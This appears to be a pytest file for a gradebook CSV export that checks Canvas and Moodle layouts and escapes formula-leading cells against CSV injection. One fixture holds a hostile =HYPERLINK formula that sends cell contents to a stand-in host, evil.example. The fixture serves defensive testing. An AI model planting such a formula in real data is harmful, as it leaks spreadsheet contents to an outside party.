"""Gradebook exports: the plain CSV with its points row, Canvas's and Moodle's import layouts, formula cells made
plain text (OWASP's CSV injection rule) and the optional UTF-8 byte order mark."""

from __future__ import annotations

import csv
import io

import httpx

from app.grades.gradebook_export import ExportFormat, to_csv
from app.grades.schemas import Gradebook, GradebookColumn, GradebookRow
from tests.factories import make_world
from tests.support import auth, sql

HOSTILE = '=HYPERLINK("http://evil.example/?"&A2,"x")'
BOOK = Gradebook(
    class_id=1,
    policy="best",
    columns=[
        GradebookColumn(assignment_id=7, assignment_title="Week 1", question_id=1, slug="sum-two", points=10),
        GradebookColumn(assignment_id=7, assignment_title="Week 1", question_id=2, slug="fizz", points=5),
        GradebookColumn(assignment_id=9, assignment_title="+Exam", question_id=3, slug="dijkstra", points=20),
    ],
    max_total=35,
    rows=[
        GradebookRow(
            id=3,
            email="ada@test.edu",
            display_name="Ada Lovelace",
            student_id="S-1",
            scores=[10, 2.5, None],
            total=12.5,
        ),
        GradebookRow(
            id=4, email="-x@test.edu", display_name=HOSTILE, student_id="@S2", scores=[None] * 3, total=0, active=False
        ),
    ],
)


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_plain_csv_has_a_points_possible_row_and_one_column_per_question() -> None:
    rows = _rows(to_csv(BOOK))
    questions = ["Week 1 / sum-two", "Week 1 / fizz", "'+Exam / dijkstra"]
    assert rows[0] == ["email", "name", "student_id", *questions, "total", "active"]
    assert rows[1] == ["points possible", "", "", "10", "5", "20", "35", ""]
    assert rows[2] == ["ada@test.edu", "Ada Lovelace", "S-1", "10", "2.5", "", "12.5", "yes"]
    assert rows[3][-1] == "no"  # the inactive enrollment, still listed with its grades


def test_every_formula_cell_is_plain_text_and_numbers_stay_numbers() -> None:
    for layout in ExportFormat:
        for row in _rows(to_csv(BOOK, layout)):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (layout, cell)
    hostile = _rows(to_csv(BOOK))[3]
    assert hostile[:3] == ["'-x@test.edu", "'" + HOSTILE, "'@S2"]


def test_canvas_layout_keys_students_by_sis_ids_and_sums_each_assignment() -> None:
    rows = _rows(to_csv(BOOK, ExportFormat.canvas))
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Week 1", "'+Exam"]
    assert rows[1] == ["    Points Possible", "", "", "", "", "15", "20"]
    assert rows[2] == ["Ada Lovelace", "", "S-1", "ada@test.edu", "", "12.5", ""]


def test_moodle_layout_has_real_grade_columns_and_no_points_row() -> None:
    rows = _rows(to_csv(BOOK, ExportFormat.moodle))
    assert rows[0] == ["First name", "Last name", "ID number", "Email address", "Week 1 (Real)", "'+Exam (Real)"]
    assert rows[1] == ["Ada", "Lovelace", "S-1", "ada@test.edu", "12.5", ""]
    assert len(rows) == 3


def test_the_bom_is_only_there_when_asked() -> None:
    assert to_csv(BOOK, bom=True).startswith("\ufeffemail,")
    assert to_csv(BOOK).startswith("email,")


def test_gradebook_route_serves_each_layout_with_a_bom_on_request(api: httpx.Client) -> None:
    world = make_world()
    sql("UPDATE users SET display_name = $1 WHERE id = $2", HOSTILE, world.student.id)
    url = f"/api/classes/{world.cs101.id}/gradebook/export"
    headers = auth(world.instructor.id)
    canvas = api.get(url, params={"format": "canvas", "bom": "1"}, headers=headers)
    assert canvas.status_code == 200, canvas.text
    assert canvas.headers["content-type"].startswith("text/csv")
    assert canvas.content.startswith("\ufeffStudent,ID,SIS User ID,SIS Login ID,Section".encode())
    assert "gradebook-" in canvas.headers["content-disposition"]
    by_email = {row[3]: row for row in _rows(canvas.text.lstrip("\ufeff"))}
    assert by_email[world.student.email][0] == f"'{HOSTILE}"
    plain = api.get(url, headers=headers).text
    assert plain.splitlines()[1].startswith("points possible,") and not plain.startswith("\ufeff")
    assert api.get(url, params={"format": "moodle"}, headers=headers).text.startswith("First name,Last name,")
    assert api.get(url, params={"format": "xlsx"}, headers=headers).status_code == 400
